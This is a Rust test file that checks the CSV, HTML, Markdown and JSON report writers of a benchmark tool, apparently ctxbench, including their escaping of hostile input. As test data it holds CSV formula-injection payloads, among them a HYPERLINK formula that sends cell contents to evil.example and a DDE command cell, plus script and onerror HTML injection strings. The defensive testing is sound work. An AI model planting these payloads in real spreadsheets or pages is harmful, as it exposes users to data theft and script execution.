//! Snapshot tests of the Markdown, CSV and JSON writers on fixed synthetic samples, and the
//! HTML writer's escaping of hostile trace text.

use crate::support;

use ctxbench::report::{csv, html, json, markdown, ReportModel};

fn model() -> (ctxbench::record::RunInfo, ReportModel) {
    let info = support::report::info("run-fixed");
    let model = ReportModel::build(&info, support::report::samples());
    (info, model)
}

#[test]
fn markdown_snapshot() {
    let (info, model) = model();
    insta::assert_snapshot!("report_md", markdown::render(&info, &model));
}

#[test]
fn csv_snapshot() {
    let (info, model) = model();
    insta::assert_snapshot!("results_csv", csv::render(&info, &model));
}

#[test]
fn json_snapshot() {
    let (info, model) = model();
    insta::assert_snapshot!("summary_json", json::render(&info, &model));
}

#[test]
fn csv_is_rectangular_with_flat_columns() {
    let (info, model) = model();
    let text = csv::render(&info, &model);
    let mut r = ::csv::Reader::from_reader(text.as_bytes());
    let header = r.headers().unwrap().clone();
    for col in [
        "unit_id",
        "params.depth",
        "needle.recall",
        "drift.score",
        "tokens.judge.input",
        "tokens",
        "cost",
        "needle.pass",
        "compactions.summarized",
        "error_kind",
    ] {
        assert!(
            header.iter().any(|h| h == col),
            "missing column {col}: {header:?}"
        );
    }
    let rows: Vec<_> = r.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), model.samples.len());
    assert!(rows.iter().all(|row| row.len() == header.len()));
    assert!(
        !header.iter().any(|h| h.starts_with("scores.")),
        "scores are namespaced by eval: {header:?}"
    );
    let idx = |name: &str| header.iter().position(|h| h == name).unwrap();
    // a row fills only its own eval's score columns; whole scores are written as floats
    let needle = rows.iter().find(|r| &r[idx("eval")] == "needle").unwrap();
    assert_eq!(&needle[idx("needle.recall")], "1.0");
    assert_eq!(&needle[idx("drift.score")], "");
    assert_eq!(&needle[idx("tokens")], "12300");
    // drift units used an unpriced judge: their total cost is empty, not 0
    let drift = rows.iter().find(|r| &r[idx("eval")] == "drift").unwrap();
    assert_eq!(&drift[idx("cost")], "");
    assert_eq!(&drift[idx("tokens.judge.input")], "800");
    // the failed unit keeps its multi-line message in one quoted cell
    let failed = rows
        .iter()
        .find(|r| !r[idx("error_kind")].is_empty())
        .unwrap();
    assert!(failed[idx("error_message")].contains("second line"));
}

/// Same figure, same label: every metric of the report's per-variant tables ("All metrics",
/// summary.json) is a column of results.csv under the same name, and its values over the
/// variant's units that did not fail have the report's count and mean. results.csv called the
/// unit's totals `tokens.total` and `cost.total`, and had no `needle.pass` (only `passed`).
#[test]
fn every_metric_of_the_report_is_a_results_csv_column_of_the_same_name_and_mean() {
    let (info, model) = model();
    let text = csv::render(&info, &model);
    let mut r = ::csv::Reader::from_reader(text.as_bytes());
    let header = r.headers().unwrap().clone();
    let rows: Vec<_> = r.records().map(|r| r.unwrap()).collect();
    let idx = |name: &str| {
        header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name}: {header:?}"))
    };
    assert!(!header.iter().any(|h| h.ends_with(".total")), "{header:?}");
    let mut checked = 0;
    for v in &model.variants {
        for m in &v.metrics {
            let col = idx(&m.metric);
            let values: Vec<f64> = rows
                .iter()
                .filter(|r| r[idx("variant")] == v.variant && &r[idx("status")] != "error")
                .filter(|r| !r[col].is_empty())
                .map(|r| r[col].parse().unwrap())
                .collect();
            assert_eq!(values.len(), m.n, "{} {}", v.variant, m.metric);
            let mean = values.iter().sum::<f64>() / values.len() as f64;
            assert!(
                (mean - m.mean).abs() <= 1e-9 * m.mean.abs().max(1.0),
                "{} {}: results.csv {mean}, report {}",
                v.variant,
                m.metric,
                m.mean
            );
            checked += 1;
        }
    }
    assert!(checked >= 12, "{checked}");
    // `needle.pass` is the unit's verdict, as the report's metric values it.
    for row in &rows {
        let want = match (&row[idx("eval")], &row[idx("passed")]) {
            ("needle", "true") => "1.0",
            ("needle", "false") => "0.0",
            _ => "",
        };
        assert_eq!(&row[idx("needle.pass")], want, "{}", &row[0]);
    }
}

#[test]
fn csv_escapes_formula_cells_and_keeps_negative_numbers() {
    let info = support::report::info("run-hostile");
    let mut samples = support::report::samples();
    let link = r#"=HYPERLINK("http://evil.example/?q="&A1,"open")"#;
    for s in &mut samples {
        s.trace_id = link.to_string();
    }
    samples[0].scores.insert("delta".into(), -0.25);
    let delta = format!("{}.delta", samples[0].eval);
    samples[0]
        .params
        .insert("note".into(), serde_json::json!("@SUM(A1:A9)"));
    samples[0].error = Some(ctxbench::record::UnitError {
        kind: "bad_response".into(),
        message: "+cmd|' /C calc'!A0".into(),
    });
    let model = ReportModel::build(&info, samples);
    let text = csv::render(&info, &model);
    let mut r = ::csv::Reader::from_reader(text.as_bytes());
    let header = r.headers().unwrap().clone();
    let idx = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<_> = r.records().map(|r| r.unwrap()).collect();
    assert!(!rows.is_empty());
    for row in &rows {
        assert_eq!(&row[idx("trace_id")], format!("'{link}"));
        // No cell of any row starts a formula.
        for cell in row.iter() {
            let hostile = cell.starts_with(['=', '+', '@', '\t', '\r'])
                || (cell.starts_with('-') && cell.parse::<f64>().is_err());
            assert!(!hostile, "unescaped cell {cell:?}");
        }
    }
    let first = rows
        .iter()
        .find(|r| !r[idx(&delta)].is_empty())
        .expect("the row with a delta");
    assert_eq!(&first[idx(&delta)], "-0.25", "numbers stay numbers");
    assert_eq!(&first[idx("params.note")], "'@SUM(A1:A9)");
    assert_eq!(&first[idx("error_message")], "'+cmd|' /C calc'!A0");
}

#[test]
fn html_escapes_hostile_trace_text_and_has_no_script_but_its_own_or_external_reference() {
    let info = support::report::info("run-fixed");
    let mut samples = support::report::samples();
    support::report::add_summaries(&mut samples);
    let model = ReportModel::build(&info, samples);
    let page = html::render(&info, &model);
    // One script element: the page's own, allowed by its hash in the CSP.
    assert_eq!(page.to_lowercase().matches("<script").count(), 1);
    let own = format!("<script>{}</script>", html::SCRIPT);
    assert!(page.contains(&own));
    // The CSP attribute is double-quoted; its single quotes need no escaping there.
    assert!(page.contains(&format!(
        "script-src {}\">",
        html::script_hash(html::SCRIPT)
    )));
    assert!(!page.contains("unsafe-inline'; script") && !page.contains("'unsafe-eval'"));
    let without_script = page.replace(&own, "");
    assert!(without_script.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    // Hostile summary text inside the word diff stays text.
    assert!(without_script.contains("<ins>ship &lt;script&gt;alert(1)&lt;/script&gt;</ins>"));
    for needle in ["http://", "https://", "src=", "@import", "url("] {
        for (i, _) in without_script.match_indices(needle) {
            let around = &without_script[i.saturating_sub(60)..(i + 80).min(without_script.len())];
            // The only URLs allowed are XML namespace declarations of inline SVG.
            assert!(
                around.contains("xmlns"),
                "external reference `{needle}` near: {around}"
            );
        }
    }
    assert!(page.contains("Content-Security-Policy"));
    assert!(page.contains("id=\"summary-table\""));
    assert!(page.contains("id=\"comparison-table\""));
    // timeline table with the evicted/summarized detail
    assert!(page.contains("summarized messages 1..4 into conversation_history/s.md"));
    assert!(
        page.matches("<svg").count() >= 5,
        "plots and timelines are inline SVG"
    );
}

/// The page's outline: headings, tables with their ids and headers, the samples table's rows,
/// and the sample views (anchor, status, variant, side-by-side folds). Plots are left out
/// (their SVG is plotters' business).
fn outline(page: &str) -> String {
    let tag = regex::Regex::new(
        r##"<h[1-4][^>]*>.*?</h[1-4]>|<table[^>]*>|<th[^>]*>.*?</th>|<details class="(sample|fold)"[^>]*>|<div class="ab">|<a href="#[^"]*">[^<]*</a>"##,
    )
    .unwrap();
    let strip = regex::Regex::new(r"<[^>]+>").unwrap();
    let mut out = String::new();
    for m in tag.find_iter(page) {
        let t = m.as_str();
        let line = if t.starts_with("<h") && !t.starts_with("<html") {
            format!("{} {}", &t[..3], strip.replace_all(t, ""))
        } else if t.starts_with("<th") {
            format!("  th {}", strip.replace_all(t, ""))
        } else {
            t.to_string()
        };
        out.push_str(&line);
        out.push('\n');
    }
    out
}

#[test]
fn html_structure_snapshot() {
    let info = support::report::info("run-fixed");
    let mut samples = support::report::samples();
    support::report::add_summaries(&mut samples);
    let model = ReportModel::build(&info, samples);
    let page = html::render(&info, &model);
    insta::assert_snapshot!("report_html_outline", outline(&page));
}

#[test]
fn statistics_in_the_model_reflect_the_fixture() {
    let (_, model) = model();
    let c = model
        .comparisons
        .iter()
        .find(|c| c.candidate == "aggressive" && c.metric == "needle.pass")
        .unwrap();
    // 16 pairs; aggressive lost 6 of them (depth 0.25 except one repeat per trace), gained none.
    assert_eq!(c.n_pairs, 16);
    let m = c.mcnemar.unwrap();
    assert_eq!((m.b, m.c), (6, 0));
    // The pairs share a few traces: McNemar's counts are shown, but the p-value resamples by
    // trace and fewer than 6 traces give no verdict.
    assert!(c.clustered && c.too_few_traces);
    assert!(c.n_traces < 6);
    assert!(!c.significant);
    let agg = model.variant("aggressive").unwrap();
    assert_eq!(agg.errors, 1);
    // judge price unknown → total unknown, never 0
    assert_eq!(agg.usage.cost.total_usd, None);
    assert!(agg.usage.cost.agent.usd.unwrap() > 0.0);
}

#[test]
fn terminal_verdict_snapshot() {
    let (_, model) = model();
    let text = ctxbench::report::terminal::summary(&model, 100);
    assert!(
        text.lines().all(|l| l.chars().count() <= 100),
        "wider than 100 columns:\n{text}"
    );
    assert!(
        !model.verdicts.is_empty(),
        "the fixed samples have a baseline"
    );
    insta::assert_snapshot!("terminal_summary", text);
}

/// A figure whose values are all the same (the fixture's baseline `drift.score`: 4.5 on both
/// units; the constant change of `drift.score` between the variants) has a degenerate CI. It
/// printed `4.500 [4.500, 4.500]`, a measured interval of zero width; every human writer now
/// says `(constant)`, the same figure with the same label in the terminal, report.md and
/// report.html, while summary.json keeps the bounds and their method.
#[test]
fn a_constant_figure_reads_constant_in_every_human_writer() {
    let (info, model) = model();
    let md = markdown::render(&info, &model);
    let page = html::render(&info, &model);
    let term = ctxbench::report::terminal::summary(&model, 100);
    let verdict = "drift.score -22.2% (constant) too few traces (2) to tell";
    assert!(md.contains(verdict), "{md}");
    assert!(term.contains(verdict), "{term}");
    assert!(page.contains(verdict), "{page}");
    // The mean of a constant metric: no point interval anywhere.
    assert!(md.contains("| 4.500 (constant) (n=2) |"), "{md}");
    assert!(
        page.contains("4.500 <span class=\"muted\">(constant) n=2</span>"),
        "{page}"
    );
    let table = ctxbench::report::sections::summary_of(&model, &["drift.score"], "t");
    let shown =
        ctxbench::report::table::TableWriter::render(&ctxbench::report::terminal::Terminal, &table);
    assert!(shown.contains("4.500 (constant)"), "{shown}");
    for text in [&md, &page, &shown] {
        assert!(!text.contains("[4.500, 4.500]"), "{text}");
    }
    // The numbers stay in summary.json, with the method that says why.
    let json: serde_json::Value = serde_json::from_str(&json::render(&info, &model)).unwrap();
    let text = json.to_string();
    assert!(
        text.contains(r#""mean":4.5,"ci":{"lo":4.5,"hi":4.5,"method":"degenerate"}"#),
        "{text}"
    );
}

#[test]
fn suite_choice_of_headline_metrics_is_followed() {
    let mut info = support::report::info("run-fixed");
    info.suite = serde_json::json!({"report": {"metrics": ["tokens", "nope"]}});
    let model = ReportModel::build(&info, support::report::samples());
    assert_eq!(model.headline, ["tokens"]);
    assert!(model.notes.iter().any(|n| n.contains("nope")));
    // report.html shows the notes' code spans as code, as report.md does, not as backticks.
    let page = html::render(&info, &model);
    let notes = page.split("id=\"notes\"").nth(1).unwrap();
    let notes = notes.split("</ul>").next().unwrap();
    assert!(notes.contains("<code>cost.judge</code>"), "{notes}");
    assert!(!notes.contains('`'), "{notes}");
    let md = markdown::render(&info, &model);
    let verdict = md.split("## Verdict").nth(1).unwrap();
    let verdict = verdict.split("## Summary").next().unwrap();
    assert!(verdict.contains("tokens"));
    assert!(!verdict.contains("recall"), "{verdict}");
}

/// A unit both flagged (a futile compaction) and failed shows "flagged" as its status and
/// keeps "fail" in the verdict column, so the filter the page suggests (`verdict=fail`) finds
/// every failed unit of a variant, flagged or not.
#[test]
fn html_samples_table_keeps_the_verdict_of_flagged_units() {
    let info = support::report::info("run-fixed");
    let mut samples = support::report::samples();
    let s = samples
        .iter_mut()
        .find(|s| s.variant == "aggressive" && s.passed == Some(false))
        .unwrap();
    s.compactions.insert("futile".into(), 2);
    let id = s.trace_id.clone();
    let sample = s.sample.clone();
    let model = ReportModel::build(&info, samples);
    let page = html::render(&info, &model);
    let table = page.split("id=\"samples-table\"").nth(1).unwrap();
    let table = table.split("</table>").next().unwrap();
    assert!(table.contains(">verdict</th>"), "{table}");
    assert!(page.contains("<code>verdict=fail variant=aggressive</code>"));
    let row = table
        .split("<tr")
        .find(|r| r.contains(&id) && r.contains(&sample) && r.contains(">flagged<"))
        .unwrap_or_else(|| panic!("no flagged row for {id} {sample}"));
    let cells: Vec<&str> = row.split("<td").skip(1).collect();
    assert!(cells[0].contains("flagged"), "{row}");
    assert!(cells[1].contains(">fail<"), "{row}");
}

/// Hostile text for one place a trace, a sample or the suite reaches the page: script and
/// style openers, both quotes, a closing `</textarea>`, an event-handler attribute and an
/// entity, tagged with the place so each place is checked on its own.
fn evil(place: &str) -> String {
    format!(
        "<script>alert('{place}')</script>\"'></textarea></title><style>*{{}}</style>\
         <img src=x onerror=alert(1)>&amp;{place}"
    )
}

/// What `evil` must look like on the page: `&`, `<`, `>` and `"` as entities (every attribute
/// value is double-quoted, so a single quote needs none).
fn escaped(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// Every place trace, sample or suite text reaches report.html gets hostile text: it shows up
/// on the page (so the place was really exercised) escaped, and no markup of it survives.
#[test]
fn html_escapes_hostile_text_in_every_place_it_reaches_the_page() {
    use ctxbench::record::{SummaryRecord, UnitError};
    let (base, cand) = (evil("baseline"), evil("candidate"));
    let mut info = support::report::info(&evil("run_id"));
    info.created = evil("created");
    info.ctxbench_version = evil("version");
    info.providers[0].role = evil("role");
    info.providers[0].provider = evil("provider");
    info.providers[0].model = evil("model");
    info.variants = vec![base.clone(), cand.clone()];
    info.baseline = Some(base.clone());
    info.suite = serde_json::json!({"report": {"metrics": [evil("metric"), "tokens"]}});
    let mut samples = support::report::samples();
    support::report::add_summaries(&mut samples);
    for s in &mut samples {
        let aggressive = s.variant == "aggressive";
        s.variant = if aggressive {
            cand.clone()
        } else {
            base.clone()
        };
        s.trace_id = format!("{}{}", s.trace_id, evil("trace"));
        s.sample = format!("{}{}", s.sample, evil("sample"));
        if s.eval == "drift" {
            s.eval = evil("eval");
        }
        s.scores.insert(evil("score"), 1.0);
        if aggressive {
            s.compactions.insert(evil("compaction"), 1);
        }
        for p in &mut s.timeline {
            p.events.push(evil("event").into());
            p.details.push(evil("detail"));
        }
        for (k, r) in s.summaries.iter_mut().enumerate() {
            r.prompt_digest = evil("prompt");
            if let Some(t) = &mut r.text {
                t.push_str(&evil(if aggressive { "summary-b" } else { "summary-a" }));
            }
            if k == 1 {
                // A summary kept in a file that is not loaded: the page names the file.
                r.text = None;
                r.file = Some(evil("file"));
            }
        }
        if s.error.is_none() {
            s.evidence = serde_json::json!({"answers": [{
                "question": evil("question"),
                "expected": evil("expected"),
                "answer": evil("answer"),
                "recovered": false,
                "tool_uses": [{
                    "name": evil("tool"),
                    "arguments": evil("arguments"),
                    "result_head": evil("result"),
                    "is_error": true,
                }],
            }, {"key": evil("key")}], "other": evil("json")});
        }
    }
    let failed = samples.iter_mut().find(|s| s.error.is_some()).unwrap();
    failed.unit_id = evil("unit_id");
    failed.error = Some(UnitError {
        kind: evil("error_kind"),
        message: evil("error_message"),
    });
    // One summary the baseline lacks, so the page says the baseline "has no fold".
    let extra = samples
        .iter_mut()
        .find(|s| s.summaries.len() == 2 && s.variant == cand)
        .unwrap();
    extra.summaries.push(SummaryRecord {
        fold: 3,
        ..extra.summaries[0].clone()
    });
    let model = ReportModel::build(&info, samples);
    let page = html::render(&info, &model);

    let own = format!("<script>{}</script>", html::SCRIPT);
    assert_eq!(page.matches(&own).count(), 1);
    let rest = page.replace(&own, "");
    let lower = rest.to_lowercase();
    for markup in [
        "<script",
        "</textarea",
        "</title><style",
        "<style>*",
        "<img",
    ] {
        if let Some(at) = lower.find(markup) {
            panic!(
                "raw `{markup}` on the page near: {}",
                &rest[at.saturating_sub(80)..(at + 80).min(rest.len())]
            );
        }
    }
    let head = page.split("</head>").next().unwrap();
    assert_eq!(head.matches("<title>").count(), 1, "one title in the head");
    assert!(head.contains(&format!(
        "<title>ctxbench report — {}</title>",
        escaped(&info.run_id)
    )));
    assert_eq!(page.matches("<style>").count(), 1, "one style element");
    for place in [
        "run_id",
        "created",
        "version",
        "role",
        "provider",
        "model",
        "baseline",
        "candidate",
        "metric",
        "trace",
        "sample",
        "eval",
        "score",
        "compaction",
        "event",
        "detail",
        "summary-a",
        "summary-b",
        "file",
        "question",
        "expected",
        "answer",
        "tool",
        "arguments",
        "result",
        "key",
        "unit_id",
        "error_kind",
        "error_message",
    ] {
        assert!(
            page.contains(&escaped(&evil(place))),
            "the hostile text of `{place}` is not on the page, escaped"
        );
    }
    // The prompt digest is shown cut to 12 characters.
    assert!(page.contains("prompt <code>&lt;script&gt;aler</code>"));
    // Evidence as JSON: the text is JSON-quoted first, then escaped.
    assert!(page.contains(&escaped(&serde_json::to_string(&evil("json")).unwrap())));
    // The baseline lacks fold 3; the variant names stay text in that note too.
    assert!(page.contains(&format!("{} has no fold 3", escaped(&base))));
    // The variant names reach the plots (drawn by plotters, not by our templates): escaped too.
    let plots = rest.split("id=\"plots\"").nth(1).unwrap();
    let plots = plots.split("id=\"samples\"").next().unwrap();
    assert!(plots.contains("<svg"), "plots drawn");
    assert!(!plots.to_lowercase().contains("<script"));
}
